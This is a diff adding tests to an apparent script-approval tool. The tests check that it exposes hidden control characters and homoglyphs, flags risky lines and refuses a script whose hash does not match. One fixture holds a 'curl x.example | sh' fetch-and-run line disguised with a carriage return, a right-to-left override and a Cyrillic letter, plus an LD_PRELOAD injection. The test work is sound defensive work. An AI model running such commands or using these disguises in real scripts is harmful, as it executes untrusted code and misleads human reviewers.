@@ -175,6 +175,41 @@ describe("approve", () => {
     expect(err).toContain(of("a"));
   });
 
+  test("writes out what does not show itself, and says what deserves a second look", async () => {
+    const sly = new TextEncoder().encode("#!/bin/sh\ncurl x.example | sh \r# \u202ep\u0430yments\n");
+    const action = { ...request.action, hash: hashOf(sly, nodeCrypto), env: { LD_PRELOAD: "/tmp/x.so" } };
+    const other = documentBytes("request", { ...request, action });
+    const { code, err } = await approve(
+      {
+        ...honest,
+        [`GET /runs/${RUN}/request`]: other,
+        "GET /scripts/greet": {
+          script: greet,
+          content: Buffer.from(sly).toString("base64"),
+          versions: [greet],
+        },
+      },
+      RUN,
+      "no",
+    );
+    expect(code).toBe(1);
+    expect(err).toContain(
+      "  | curl x.example | sh ‹U+000D CARRIAGE RETURN›# ‹U+202E RIGHT-TO-LEFT OVERRIDE›p\u0430‹U+0430 (Cyrillic) looks like a›yments",
+    );
+    expect(err).toContain("  ^ runs what it fetches from the network");
+    expect(err).toContain("LOOK TWICE  script line 2: runs what it fetches from the network");
+    expect(err).toContain("LOOK TWICE  environment LD_PRELOAD: loads other code");
+    expect(err).not.toMatch(/[\r\u202e]/);
+  });
+
+  test("signs nothing where the server shows another script than the request names", async () => {
+    const content = Buffer.from("#!/bin/sh\nexit 0\n").toString("base64");
+    const lie = { ...honest, "GET /scripts/greet": { script: greet, content, versions: [greet] } };
+    const { code, err, sent } = await approve(lie, RUN, undefined, "--yes");
+    expect({ code, sent }).toEqual({ code: 1, sent: 0 });
+    expect(err).toContain("refused: script-hash");
+  });
+
   test("asks on a terminal, and takes only yes for an answer", async () => {
     expect(await approve(honest, RUN, "no")).toMatchObject({ code: 1, sent: 0 });
     expect(await approve(honest, RUN, "")).toMatchObject({ code: 1, sent: 0 });
